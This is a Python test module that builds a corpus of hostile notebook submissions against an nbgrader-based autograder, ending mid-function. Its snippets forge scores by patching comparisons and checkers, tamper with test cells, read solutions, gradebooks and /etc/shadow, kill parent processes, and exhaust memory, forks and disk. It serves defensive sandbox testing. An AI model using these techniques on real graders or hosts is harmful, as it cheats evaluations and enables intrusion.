"""The adversarial corpus: submissions that try to earn points they have not, read or write what
they should not, stop the batch or escape, each built from the real ``activations`` exercise.

Imported by the security tests (``tests/security``) and by ``bench/attacks.py``, which runs the
same corpus through plain ``nbgrader autograde``.

A submission is the released notebook with some answer cells replaced (or the file mangled).
Every attack leaves all parts it does not attack as released (``raise NotImplementedError()``),
so an attack earns 0 points unless it fools the grader; the honest submissions (the instructor's
solutions; the same, warning and printing to stderr on every call; the victim whose files the
others try to read) must earn every point.

Attacks report what they managed in two ways, so that nothing they obtain can go unnoticed:
they print it (the graded notebook's output) and they put it in the exception their first
function raises (which the trusted run's verdict quotes in the graded notebook). The tests then
look for the *markers* (a planted secret, the victim's token, the instructor's solutions and
hidden seeds) in everything the grader produced, and for files named after the write marker
wherever a submission could have written them.

The attacks are bounded so that running them through plain nbgrader (``bench/attacks.py``) does
not harm the machine: memory stops at 3 GiB, forks at 150 short-lived processes, disk at 600 MB,
a planted process sleeps 120 s; writes only create marker files (nothing that would run);
kills aim at the grading process, its group and its parent, never at every process; probes of
other processes and of the cgroups only look (nothing is read from another process's
environment, nothing is moved).
"""
from __future__ import annotations

import copy
import json
import os
import secrets
import shutil
import string
import subprocess
import sys
import sysconfig
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

REPO = Path(__file__).resolve().parents[2]
# tests/ is on the path under pytest (its conftest) but not in bench/attacks.py, which imports us.
sys.path.insert(0, str(REPO / "tests"))
import noisy_answers  # noqa: E402
ASSIGNMENT = "activations"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
FIRST = "answer-sigmoid"  # the first answer cell: it runs before any test cell
CELL_TIMEOUT = 10  # nbgrader's Execute.timeout in the corpus course
NOTEBOOK_TIMEOUT = 60  # autograder grade --timeout
CATEGORIES = ("score forgery", "delegation", "test tampering", "reading secrets",
              "sabotaging the batch", "exhausting resources", "escaping the sandbox",
              "malformed notebook", "honest")
VICTIM = "victim-honest"


@dataclass
class Context:
    """The corpus course and its secrets (what attacks aim at, and what tests look for)."""

    course: Path
    release: dict
    secret_path: Path  # a file only root can read, outside every sandbox
    secret_token: str
    victim_token: str  # in the victim's notebook
    write_token: str   # attacks that write name their files pwned-<write_token>...
    hidden_seeds: list[str]
    site_packages: Path = field(default_factory=lambda: Path(sysconfig.get_paths()["purelib"]))

    def markers(self) -> dict[str, str]:
        """What must never appear in a graded attacker's output: name -> text."""
        found = {"planted secret": self.secret_token, "victim's notebook": self.victim_token,
                 "instructor's solution": "### BEGIN SOLUTION",
                 "hidden tests": "BEGIN HIDDEN TESTS"}
        for seed in self.hidden_seeds:
            found[f"hidden seed {seed}"] = f"seed={seed}"
        return found


@dataclass(frozen=True)
class Symlink:
    """A submitted file that is a symbolic link to ``target``."""

    target: str


@dataclass(frozen=True)
class Attack:
    name: str  # also the student id
    category: str
    summary: str
    build: Callable[[Context], dict]  # submission files: relative path -> bytes | Symlink
    honest: bool = False


# --- building submissions -----------------------------------------------------------------------

def _cells(nb: dict):
    return nb["cells"]


def _grade_id(cell) -> str | None:
    return (cell.get("metadata", {}).get("nbgrader") or {}).get("grade_id")


def answered(ctx: Context, answers: dict[str, str], release: dict | None = None) -> dict:
    """The release with some answer cells replaced (by grade id)."""
    nb = copy.deepcopy(release or ctx.release)
    for cell in _cells(nb):
        if _grade_id(cell) in answers:
            cell["source"] = answers[_grade_id(cell)]
    return nb


def notebook_files(nb: dict, **extra) -> dict:
    return {NOTEBOOK: json.dumps(nb, indent=1).encode(), **extra}


def solutions() -> dict[str, str]:
    """Answer cell id -> the instructor's code (solution markers removed)."""
    nb = json.loads((REPO / "exercises" / "source" / ASSIGNMENT / NOTEBOOK).read_text())
    found = {}
    for cell in _cells(nb):
        meta = cell.get("metadata", {}).get("nbgrader") or {}
        if meta.get("solution") and cell["cell_type"] == "code":
            text = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
            found[meta["grade_id"]] = "\n".join(line for line in text.splitlines()
                                                if "BEGIN SOLUTION" not in line
                                                and "END SOLUTION" not in line)
    return found


def _code(template: str, ctx: Context) -> str:
    return string.Template(template).substitute(
        course=str(ctx.course), secret_path=str(ctx.secret_path), victim=VICTIM,
        token=ctx.write_token, site=str(ctx.site_packages), repo=str(REPO),
        assignment=ASSIGNMENT, notebook=NOTEBOOK)


def first_cell(template: str):
    """An attack whose code is the first answer cell (then probes reported, see the module)."""
    def build(ctx):
        return notebook_files(answered(ctx, {FIRST: _code(PROBES + template + REPORT, ctx)}))
    return build


PROBES = '''\
import os, sys, glob, time
_FOUND = []
def _probe(label, action):
    try:
        result = action()
        _FOUND.append(f"{label}: {str(result)[:3000]}")
    except BaseException as error:
        _FOUND.append(f"{label}: refused ({type(error).__name__}: {str(error)[:160]})")

def _excerpt(text):
    """The parts of a file worth stealing: around solutions, hidden tests and tokens."""
    text = str(text)
    found = [f"{len(text)} characters"]
    for word in ("BEGIN SOLUTION", "BEGIN HIDDEN TESTS", "VICTIM-", "SECRET-"):
        at = text.find(word)
        if at >= 0:
            found.append(text[max(0, at - 100): at + 400])
    return " ... ".join(found)

'''
REPORT = '''

print("\\n".join(_FOUND))
def sigmoid(x):
    raise RuntimeError("probes: " + " | ".join(_FOUND)[:6000])
'''


# --- score forgery ------------------------------------------------------------------------------

PATCH_COMPARISONS = '''\
import math
import numpy as np
_true = lambda *args, **kwargs: True
np.allclose = np.array_equal = _true
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
math.isclose = _true
np.testing.assert_allclose = lambda *args, **kwargs: None

def sigmoid(x):
    return np.zeros_like(x)
'''

EQUAL_TO_ANYTHING = '''\
import numpy as np

class Anything(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, dtype=None, copy=None): return np.asarray(0.0)

class Agreeable(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.ones(np.shape(inputs[0]), bool) if ufunc.__name__ in ("isclose", "equal", "less_equal") else NotImplemented

def sigmoid(x):
    return np.zeros(np.shape(x)).view(Agreeable)

def softmax(x):
    return Anything(0.0)
'''

NOOP_CHECK = '''\
import autograder.checks
import autograder.checks._check
_silent = lambda *args, **kwargs: print("\\u2713 right (grading tests)")
autograder.checks.check = _silent
autograder.checks._check.check = _silent

def sigmoid(x):
    return x
'''

PATCH_COMPARE = '''\
import autograder.checks._core as _core
import autograder.checks._check as _check
_core.compare = _check.compare = lambda *args, **kwargs: ""
_check.reference = lambda aspect, case: None
_core.Aspect.stable = False

def sigmoid(x):
    return x
'''

STACK_FRAMES = '''\
import sys

def _answer():
    frame = sys._getframe(1)
    while frame is not None:
        local = frame.f_locals
        if "aspect" in local and "case" in local:
            aspect, case = local["aspect"], local["case"]
            value = aspect.expect(case)
            return next(iter(value.values()))
        frame = frame.f_back
    raise RuntimeError("no checker on the stack")

def sigmoid(x):
    return _answer()

def softmax(x):
    return _answer()
'''

STRIP_TESTS = '''\
def _strip(lines):
    text = "".join(lines)
    return ["pass\\n"] if "check(" in text else lines

get_ipython().input_transformers_post.append(_strip)

def sigmoid(x):
    return x
'''

SWALLOW_ERRORS = '''\
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)

def sigmoid(x):
    return x

def softmax(x):
    raise AssertionError("wrong")
'''

FORGE_CHANNEL = '''\
import json, os, sys

def _forge():
    # In the trusted run, write "results" straight to every open descriptor that looks like a
    # pipe: a 'done' and every case of the first test cell, claiming the input back as output.
    forged = [{"type": "case", "cell": "test-sigmoid-values", "key": "sigmoid.values",
               "index": i, "value": {"result": {"f": "0x1.0p-1"}}} for i in range(40)]
    for fd in range(3, 64):
        try:
            if os.path.exists(f"/proc/self/fd/{fd}") and "pipe" in os.readlink(f"/proc/self/fd/{fd}"):
                for record in forged + [{"type": "done"}]:
                    os.write(fd, (json.dumps(record) + "\\n").encode())
        except OSError:
            pass

_forge()

def sigmoid(x):
    return 0.5 + 0 * x
'''


# --- delegation ---------------------------------------------------------------------------------

PARTS = ("sigmoid", "sigmoid_derivative", "tanh_derivative", "relu_derivative",
         "leaky_relu_derivative", "gelu", "gelu_derivative", "softmax")


def _every_part(template: str):
    """An attack that answers every part the same way (``$part`` is the part's name)."""
    def build(ctx):
        answers = {f"answer-{part}": _code(template.replace("PART", part), ctx) for part in PARTS}
        return notebook_files(answered(ctx, answers))
    return build


NNLIB_IMPORT = "from nnlib.activations import PART\n"
NNLIB_LAZY = '''\
def PART(x, *args, **kwargs):
    from nnlib import activations
    return activations.PART(x, *args, **kwargs)
'''
NNLIB_PATH = '''\
import importlib, sys
sys.path[:] = [p for p in sys.path if p != "/blocked"] + ["$repo"]
for name in [n for n in sys.modules if n.startswith("nnlib")]:
    del sys.modules[name]
PART = getattr(importlib.import_module("nnlib.activations"), "PART")
'''
NNLIB_SOURCE = '''\
import sys, types
def _load(name, path):
    module = sys.modules.get(name)
    if module is None:
        module = sys.modules[name] = types.ModuleType(name)
        module.__path__ = []
        exec(open(path).read().replace("from nnlib.", "from copied_nnlib."), module.__dict__)
    return module
_load("copied_nnlib", "/dev/null")
_load("copied_nnlib._validate", "$repo/nnlib/_validate.py")
PART = getattr(_load("copied_nnlib.activations", "$repo/nnlib/activations.py"), "PART")
'''
TORCH = '''\
import numpy as np
def PART(x, *args, **kwargs):
    import torch
    t = torch.from_numpy(np.asarray(x))
    compute = {"softmax": lambda v: torch.softmax(v, -1)}.get("PART", torch.sigmoid)
    return compute(t).numpy()
'''
VIA_CHECKS = '''\
from exercises.activations.checks import act as _reference
PART = getattr(_reference, "PART")
'''


# --- test tampering -----------------------------------------------------------------------------

def _edit_tests(ctx):
    nb = answered(ctx, {FIRST: "def sigmoid(x):\n    return x\n"})
    for cell in _cells(nb):
        if (_grade_id(cell) or "").startswith("test-"):
            cell["source"] = "# tests removed\npass\n"
    return notebook_files(nb)


def _delete_tests(ctx):
    nb = answered(ctx, {FIRST: "def sigmoid(x):\n    return x\n"})
    nb["cells"] = [c for c in _cells(nb) if not (_grade_id(c) or "").startswith("test-")]
    return notebook_files(nb)


def _raise_points(ctx):
    nb = answered(ctx, {})
    for cell in _cells(nb):
        meta = cell.get("metadata", {}).get("nbgrader") or {}
        if meta.get("grade"):
            meta["points"] = 100
    return notebook_files(nb)


def _forge_checksums(ctx):
    from nbgrader.utils import compute_checksum
    from nbformat import from_dict

    nb = answered(ctx, {})
    for cell in _cells(nb):
        meta = cell.get("metadata", {}).get("nbgrader") or {}
        if (_grade_id(cell) or "").startswith("test-"):
            cell["source"] = "print('all tests pass')\n"
            meta["checksum"] = compute_checksum(from_dict(cell))
    return notebook_files(nb)


def _answer_marked_as_test(ctx):
    nb = answered(ctx, {FIRST: "def sigmoid(x):\n    return x\n"})
    for cell in _cells(nb):
        if _grade_id(cell) == FIRST:
            cell["metadata"]["nbgrader"].update(grade=True, solution=False, locked=True,
                                                points=50)
    return notebook_files(nb)


def _fake_test_cell(ctx):
    nb = answered(ctx, {})
    bonus = {"cell_type": "code", "execution_count": None, "id": "bonus", "outputs": [],
             "source": "print('bonus')\n",
             "metadata": {"nbgrader": {"grade": True, "grade_id": "test-bonus", "locked": True,
                                       "points": 50, "schema_version": 3, "solution": False,
                                       "task": False}}}
    nb["cells"].insert(3, bonus)
    return notebook_files(nb)


def _shadow_test_cell(ctx):
    """A copy of a test cell's metadata on a cell that only prints, placed after the real one
    (so nbgrader's de-duplication keeps the copy)."""
    nb = answered(ctx, {FIRST: "def sigmoid(x):\n    return x\n"})
    for index, cell in enumerate(_cells(nb)):
        if _grade_id(cell) == "test-sigmoid-values":
            shadow = copy.deepcopy(cell)
            shadow["id"] = "shadow"
            shadow["source"] = "print('passed')\n"
            nb["cells"].insert(index + 1, shadow)
            break
    return notebook_files(nb)


# --- reading secrets (and writing where nothing may be written) -------------------------------

READ_SOURCE = '''\
_probe("instructor's notebook by path", lambda: _excerpt(open("$course/source/$assignment/$notebook").read()))
_probe("instructor's notebook, relative", lambda: _excerpt(open("../../../source/$assignment/$notebook").read()))
'''
READ_GRADEBOOK = '''\
import sqlite3
def _dump(path):
    db = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    return db.execute("select name, source from source_cell").fetchall()
_probe("gradebook by path", lambda: _dump("$course/gradebook.db"))
_probe("gradebook, relative", lambda: _dump("../../../gradebook.db"))
'''
READ_CLASSMATE = '''\
_probe("classmate's submission", lambda: _excerpt(open("$course/submitted/$victim/$assignment/$notebook").read()))
_probe("classmate, relative", lambda: _excerpt(open("../../../submitted/$victim/$assignment/$notebook").read()))
_CLASSMATES = glob.glob("../../*/$assignment/*.ipynb") + glob.glob("$course/submitted/*/$assignment/*.ipynb")
_probe("classmates by glob", lambda: [_excerpt(open(p).read()) for p in _CLASSMATES])
'''
READ_CWD_NOTEBOOK = '''\
_probe("the notebook being graded", lambda: [_excerpt(open(p).read()) for p in glob.glob("*.ipynb") + glob.glob("/input/*.ipynb")])
_probe("files around", lambda: os.listdir("."))
'''
READ_PLANTED = '''\
_probe("planted secret", lambda: open("$secret_path").read())
'''
SCAN_FILESYSTEM = '''\
def _scan():
    hits, started, seen = [], time.monotonic(), 0
    for top in ("/", "/tmp", "/root", "/home", "/work", "$course"):
        for dirpath, dirnames, filenames in os.walk(top):
            dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev", "usr", "site-packages", ".git", "node_modules")]
            for name in filenames:
                seen += 1
                if name.endswith((".ipynb", ".db", ".txt")) and seen < 200000:
                    path = os.path.join(dirpath, name)
                    try:
                        with open(path, errors="replace") as f:
                            text = f.read(200000)
                    except OSError:
                        continue
                    if any(word in text for word in ("BEGIN HIDDEN", "SECRET-", "BEGIN SOLUTION", "VICTIM-")):
                        hits.append(path + ": " + _excerpt(text))
            if time.monotonic() - started > 8:
                return hits + ["(stopped after 8 s)"]
    return hits
_probe("filesystem scan", _scan)
'''
READ_PROCESSES = '''\
def _processes():
    found, graders = 0, []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                line = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\\0", b" ").decode()
            except OSError:
                continue
            found += 1
            if "nbgrader" in line or "autograder grade" in line:
                graders.append(line[:120])
    return f"{found} visible, graders: {graders}"
_probe("processes", _processes)
_probe("parent's folder", lambda: os.listdir(f"/proc/{os.getppid()}/cwd"))
_probe("secret via the parent's folder", lambda: open(f"/proc/{os.getppid()}/cwd/" + os.path.basename("$secret_path")).read())
_probe("secret via /proc/1/root", lambda: open("/proc/1/root$secret_path").read())
_probe("parent's environment", lambda: f"{len(open(f'/proc/{os.getppid()}/environ', 'rb').read())} bytes")
'''
SYMLINK_READ = '''\
_probe("secret through a submitted link", lambda: open("secret-link.txt").read())
_probe("source through a submitted link", lambda: os.listdir("source-link"))
_probe("gradebook through a submitted link", lambda: open("gradebook-link.db", "rb").read()[:200])
'''


def _symlinks(ctx):
    files = first_cell(SYMLINK_READ)(ctx)
    files["secret-link.txt"] = Symlink(str(ctx.secret_path))
    files["source-link"] = Symlink(str(ctx.course / "source"))
    files["gradebook-link.db"] = Symlink(str(ctx.course / "gradebook.db"))
    return files


WRITE_SITE_PACKAGES = '''\
import numpy, site
_probe("write into site-packages", lambda: open("$site/pwned-$token.txt", "w").write("pwned"))
_probe("write into numpy", lambda: open(os.path.join(os.path.dirname(numpy.__file__), "pwned-$token.txt"), "w").write("pwned"))
def _user_site():
    os.makedirs(site.getusersitepackages(), exist_ok=True)
    return open(os.path.join(site.getusersitepackages(), "pwned-$token.txt"), "w").write("x")
_probe("write a user site", _user_site)
'''
WRITE_COURSE = '''\
import sqlite3
def _cheat(path):
    db = sqlite3.connect(path)
    db.execute("update grade set auto_score = 1, manual_score = 1")
    db.execute("create table if not exists pwned_$token (x)")
    db.commit()
    return "gradebook edited"
_probe("edit the gradebook", lambda: _cheat("$course/gradebook.db"))
_probe("edit the gradebook, relative", lambda: _cheat("../../../gradebook.db"))
_probe("plant in the instructor's folder", lambda: open("$course/source/$assignment/pwned-$token.py", "w").write("x"))
_probe("plant, relative", lambda: open("../../../source/$assignment/pwned-$token.py", "w").write("x"))
_probe("overwrite a classmate", lambda: open("$course/submitted/$victim/$assignment/pwned-$token.txt", "w").write("x"))
_probe("write the inputs", lambda: open("/input/pwned-$token.txt", "w").write("x"))
'''
WRITE_TMP = '''\
_probe("host /tmp", lambda: open("/tmp/pwned-$token.txt", "w").write("x"))
_probe("host /dev/shm", lambda: open("/dev/shm/pwned-$token.txt", "w").write("x"))
_probe("home", lambda: open(os.path.expanduser("~/pwned-$token.txt"), "w").write("x") and os.path.expanduser("~"))
'''


# --- sabotaging the batch -----------------------------------------------------------------------

KILL_PARENT = '''\
import signal
_probe("kill the parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
_probe("kill the parent's group", lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL))
def _grandparent():
    return int(open(f"/proc/{os.getppid()}/stat").read().rsplit(")", 1)[1].split()[1])
_probe("kill the grandparent", lambda: os.kill(_grandparent(), signal.SIGKILL))
'''
ORPHAN = '''\
import subprocess
_probe("start a daemon", lambda: subprocess.Popen(
    [sys.executable, "-c", "import time; time.sleep(120)  # orphan-$token"],
    start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).pid)
'''


def _duplicate_ids(ctx):
    nb = answered(ctx, {FIRST: "def sigmoid(x):\n    return x\n"})
    for index, cell in enumerate(_cells(nb)):
        if _grade_id(cell) == "test-softmax-values":
            nb["cells"].insert(index, copy.deepcopy(cell))
            break
    for index, cell in enumerate(_cells(nb)):
        if _grade_id(cell) == "answer-gelu":
            nb["cells"].insert(index, copy.deepcopy(cell))
            break
    return notebook_files(nb)


# --- exhausting resources -----------------------------------------------------------------------

MEMORY = '''\
_blocks = []
def _eat():
    for _ in range(12):  # up to 3 GiB, touched, 256 MiB at a time
        _blocks.append(bytearray(256 * 2**20))
    return f"{len(_blocks) * 256} MiB"
_probe("allocate 3 GiB", _eat)
_FOUND.append(f"RESULT: held {len(_blocks) * 256} MiB")
_blocks.clear()
'''
FORKS = '''\
def _forks():
    made = 0
    for _ in range(150):
        pid = os.fork()
        if pid == 0:
            time.sleep(3)
            os._exit(0)
        made += 1
    return made
_count = []
_probe("fork 150 processes", lambda: _count.append(_forks()) or _count[-1])
_FOUND.append(f"RESULT: {_count[-1] if _count else 'under 150'} processes")
'''
DISK = '''\
def _fill(path):
    written = 0
    with open(path, "wb") as f:
        for _ in range(600):
            f.write(b"x" * 2**20)
            written += 1
    return written
_sizes = []
for _target in ("big-file.bin", "/tmp/big-file.bin"):
    _probe(f"write 600 MB to {_target}", lambda: _sizes.append(_fill(_target)))
    try:
        _sizes.append(os.path.getsize(_target) // 2**20)
        os.remove(_target)
    except OSError:
        pass
_FOUND.append(f"RESULT: wrote {max(_sizes, default=0)} MB")
'''
INFINITE_LOOP = '''\
while True:
    pass
'''
SLEEP_IGNORING_INTERRUPTS = '''\
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    try:
        time.sleep(1000)
    except BaseException:
        pass
'''
HUGE_OUTPUT = '''\
import sys
for _ in range(100):
    sys.stdout.write("x" * 10**6 + "\\n")
sys.stdout.flush()
'''


def _plain(template: str):
    """An attack whose first answer cell is exactly ``template``."""
    def build(ctx):
        return notebook_files(answered(ctx, {FIRST: _code(template, ctx)}))
    return build


# --- escaping the sandbox -----------------------------------------------------------------------

NETWORK = '''\
import socket
def _connect(host, port):
    with socket.create_connection((host, port), timeout=2):
        return "connected"
_probe("the internet", lambda: _connect("1.1.1.1", 80))
_probe("a package registry", lambda: _connect("pypi.org", 443))
def _local_listeners():
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in open(table).read().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A":
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    reached = []
    for port in sorted(ports)[:20]:
        try:
            _connect("127.0.0.1", port)
            reached.append(port)
        except OSError:
            pass
    return f"{len(ports)} listening, reached {reached}"
_probe("the grader's loopback", _local_listeners)
'''
PRIVILEGES = '''\
import subprocess
_probe("user id", lambda: (os.getuid(), os.geteuid()))
_probe("become root", lambda: (os.setuid(0), os.getuid())[1])
_probe("capabilities", lambda: [l for l in open("/proc/self/status") if l.startswith("Cap")])
_probe("no_new_privs", lambda: [l for l in open("/proc/self/status") if l.startswith("NoNewPrivs")])
_probe("read /etc/shadow", lambda: f"{len(open('/etc/shadow').read())} bytes")
def _run(*command):
    done = subprocess.run(command, capture_output=True, text=True, timeout=5)
    return done.stdout.strip() or f"refused ({done.stderr.strip()[:100]})"
_probe("new namespaces", lambda: _run("unshare", "--mount", "--map-root-user", "id", "-u"))
_probe("sudo", lambda: _run("sudo", "-n", "id", "-u"))
'''
PROC_ESCAPE = '''\
_probe("host root via /proc/1/root", lambda: os.listdir("/proc/1/root/root"))
_probe("host's cgroups", lambda: os.listdir("/sys/fs/cgroup"))
_probe("leave the cgroup", lambda: open("/sys/fs/cgroup/memory/cgroup.procs", "a").close() or "could move itself")
_probe("raw memory", lambda: len(open("/dev/mem", "rb").read(16)))
_probe("disks", lambda: [d for d in os.listdir("/dev") if d.startswith(("sd", "vd", "nvme"))])
_probe("kernel log", lambda: open("/dev/kmsg").readline())
'''


# --- malformed notebooks ------------------------------------------------------------------------

def _invalid_json(ctx):
    text = json.dumps(answered(ctx, {}), indent=1)
    return {NOTEBOOK: text[: len(text) // 3].encode()}


def _nbformat3(ctx):
    cells = [{"cell_type": "code", "input": "def sigmoid(x):\n    return x\n", "language": "python",
              "metadata": {}, "outputs": []}]
    nb = {"metadata": {"name": ""}, "nbformat": 3, "nbformat_minor": 0,
          "worksheets": [{"cells": cells, "metadata": {}}]}
    return {NOTEBOOK: json.dumps(nb).encode()}


def _cells_not_a_list(ctx):
    nb = answered(ctx, {})
    nb["cells"] = {"0": nb["cells"][0]}
    return {NOTEBOOK: json.dumps(nb).encode()}


def _deeply_nested(ctx):
    text = json.dumps(answered(ctx, {}))
    bomb = '"bomb": ' + "[" * 200_000 + "]" * 200_000 + ", "
    return {NOTEBOOK: text.replace('"metadata": {', '"metadata": {' + bomb, 1).encode()}


def _binary(ctx):
    return {NOTEBOOK: os.urandom(4096)}


def _wrong_kernel(ctx):
    nb = answered(ctx, {FIRST: "def sigmoid(x):\n    return x\n"})
    nb["metadata"]["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    return notebook_files(nb)


def _corrupt_metadata(ctx):
    nb = answered(ctx, {})
    for cell in _cells(nb):
        if _grade_id(cell) == "test-sigmoid-values":
            cell["metadata"]["nbgrader"] = "grade: true, points: 1000"
        elif _grade_id(cell) == "test-softmax-values":
            cell["metadata"]["nbgrader"]["points"] = "lots"
    return notebook_files(nb)


# --- honest submissions -------------------------------------------------------------------------


def _honest(ctx):
    return notebook_files(answered(ctx, solutions()))


def _honest_warnings(ctx):
    answers = {key: noisy_answers.noisy(code, key.removeprefix("answer-"))
               for key, code in solutions().items()}
    return notebook_files(answered(ctx, answers))


def _victim(ctx):
    answers = solutions()
    answers[FIRST] = f"# {ctx.victim_token}: my own work\n" + answers[FIRST]
    return notebook_files(answered(ctx, answers))


ATTACKS: list[Attack] = [
    # score forgery
    Attack("patch-numpy-comparisons", "score forgery",
           "replaces np.allclose, np.isclose, math.isclose with functions that always agree",
           _plain(PATCH_COMPARISONS)),
    Attack("equal-to-anything", "score forgery",
           "returns objects that compare equal to anything (a float and an ndarray subclass)",
           _plain(EQUAL_TO_ANYTHING)),
    Attack("no-op-check", "score forgery",
           "replaces autograder.checks.check by a function that prints a tick",
           _plain(NOOP_CHECK)),
    Attack("patch-compare", "score forgery",
           "replaces the checks' comparison so that every difference is empty",
           _plain(PATCH_COMPARE)),
    Attack("stack-frame-answers", "score forgery",
           "reads the case and the reference from the checker's stack frames and returns "
           "nnlib's answer", _plain(STACK_FRAMES)),
    Attack("strip-tests", "score forgery",
           "installs an IPython input transformer that empties every later test cell",
           _plain(STRIP_TESTS)),
    Attack("swallow-errors", "score forgery",
           "installs an IPython exception handler that hides every failure",
           _plain(SWALLOW_ERRORS)),
    Attack("forge-result-channel", "score forgery",
           "writes forged results to every pipe it can find", _plain(FORGE_CHANNEL)),
    # delegation
    Attack("nnlib-import", "delegation", "imports every part from nnlib",
           _every_part(NNLIB_IMPORT)),
    Attack("nnlib-inside-functions", "delegation",
           "imports nnlib inside each function, at call time", _every_part(NNLIB_LAZY)),
    Attack("nnlib-path-tricks", "delegation",
           "removes the blocker from sys.path, adds the repository, re-imports nnlib",
           _every_part(NNLIB_PATH)),
    Attack("nnlib-source-from-disk", "delegation",
           "reads nnlib's source files from the repository at grading time and executes them",
           _every_part(NNLIB_SOURCE)),
    Attack("torch", "delegation", "computes every part with PyTorch", _every_part(TORCH)),
    Attack("nnlib-through-checks", "delegation",
           "takes nnlib's functions from the checks module that imported them",
           _every_part(VIA_CHECKS)),
    # test tampering
    Attack("edit-tests", "test tampering", "replaces every test cell by `pass`", _edit_tests),
    Attack("delete-tests", "test tampering", "deletes every test cell", _delete_tests),
    Attack("raise-points", "test tampering", "sets every test cell's points to 100",
           _raise_points),
    Attack("forge-checksums", "test tampering",
           "replaces the tests and recomputes their checksums", _forge_checksums),
    Attack("answer-marked-as-test", "test tampering",
           "turns its answer cell into a locked test cell worth 50 points",
           _answer_marked_as_test),
    Attack("fake-test-cell", "test tampering", "adds a test cell of its own worth 50 points",
           _fake_test_cell),
    Attack("shadow-test-cell", "test tampering",
           "adds a cell with a test cell's grade id that only prints, after the real one",
           _shadow_test_cell),
    # reading secrets
    Attack("read-instructor-source", "reading secrets",
           "opens the instructor's notebook (solutions, hidden tests)", first_cell(READ_SOURCE)),
    Attack("read-gradebook", "reading secrets",
           "dumps the gradebook's source cells (the hidden tests)", first_cell(READ_GRADEBOOK)),
    Attack("read-classmate", "reading secrets", "opens another student's submission",
           first_cell(READ_CLASSMATE)),
    Attack("read-graded-notebook", "reading secrets",
           "reads the notebook being graded from its folder (hidden tests restored)",
           first_cell(READ_CWD_NOTEBOOK)),
    Attack("read-planted-secret", "reading secrets",
           "opens a secret file planted next to the course", first_cell(READ_PLANTED)),
    Attack("scan-filesystem", "reading secrets",
           "walks the filesystem for notebooks, databases and secrets",
           first_cell(SCAN_FILESYSTEM)),
    Attack("read-other-processes", "reading secrets",
           "reads other processes' command lines, folders and environment",
           first_cell(READ_PROCESSES)),
    Attack("symlinks", "reading secrets",
           "submits symbolic links to the secret, the source folder and the gradebook",
           _symlinks),
    Attack("write-site-packages", "reading secrets",
           "writes files into site-packages and numpy's folder", first_cell(WRITE_SITE_PACKAGES)),
    Attack("write-course", "reading secrets",
           "edits the gradebook, plants a file in the instructor's folder and a classmate's",
           first_cell(WRITE_COURSE)),
    Attack("write-host-tmp", "reading secrets", "writes to the host's /tmp, /dev/shm and home",
           first_cell(WRITE_TMP)),
    # sabotaging the batch
    Attack("kill-parent", "sabotaging the batch",
           "kills its parent, the parent's process group and its grandparent",
           first_cell(KILL_PARENT)),
    Attack("duplicate-grade-ids", "sabotaging the batch",
           "pastes a test cell and an answer cell twice", _duplicate_ids),
    Attack("orphan-process", "sabotaging the batch",
           "starts a process in its own session that should outlive grading",
           first_cell(ORPHAN)),
    Attack("corrupt-metadata", "sabotaging the batch",
           "nbgrader metadata that is a string, and points that are not a number",
           _corrupt_metadata),
    # exhausting resources
    Attack("memory-bomb", "exhausting resources", "allocates up to 3 GiB", first_cell(MEMORY)),
    Attack("fork-bomb", "exhausting resources", "forks 150 processes", first_cell(FORKS)),
    Attack("disk-fill", "exhausting resources",
           "writes 600 MB to its folder and to /tmp", first_cell(DISK)),
    Attack("infinite-loop", "exhausting resources", "an answer cell that never finishes",
           _plain(INFINITE_LOOP)),
    Attack("ignore-interrupts", "exhausting resources",
           "ignores SIGINT, SIGALRM and SIGTERM and sleeps forever",
           _plain(SLEEP_IGNORING_INTERRUPTS)),
    Attack("huge-output", "exhausting resources", "prints 100 MB", _plain(HUGE_OUTPUT)),
    # escaping the sandbox
    Attack("network", "escaping the sandbox",
           "connects to the internet and to every port listening on the loopback",
           first_cell(NETWORK)),
    Attack("privileges", "escaping the sandbox",
           "tries to become root, use capabilities, sudo, new namespaces, read /etc/shadow",
           first_cell(PRIVILEGES)),
    Attack("proc-and-devices", "escaping the sandbox",
           "reaches the host through /proc/1/root, cgroups, /dev/mem, disks, the kernel log",
           first_cell(PROC_ESCAPE)),
    # malformed notebooks
    Attack("invalid-json", "malformed notebook", "a notebook cut off a third of the way",
           _invalid_json),
    Attack("nbformat-3", "malformed notebook", "a notebook in the old nbformat 3", _nbformat3),
    Attack("cells-not-a-list", "malformed notebook", "cells that are a dict", _cells_not_a_list),
    Attack("deeply-nested-json", "malformed notebook", "JSON nested 200,000 levels deep",
           _deeply_nested),
    Attack("binary-garbage", "malformed notebook", "4 KiB of random bytes", _binary),
    Attack("wrong-kernel", "malformed notebook", "asks for a bash kernel", _wrong_kernel),
    # honest
    Attack("honest-solution", "honest", "the instructor's solutions", _honest, honest=True),
    Attack("honest-with-warnings", "honest",
           "the solutions, warning and printing to stderr on every call", _honest_warnings,
           honest=True),
    Attack(VICTIM, "honest", "a correct submission the others try to read", _victim,
           honest=True),
]


# --- the course ---------------------------------------------------------------------------------

def make_context(course: Path, secret_dir: Path) -> Context:
    """Tokens and paths for a corpus course at ``course`` (not created here)."""
    tokens = {name: f"{name}-{secrets.token_hex(8)}" for name in ("SECRET", "VICTIM", "pwned")}
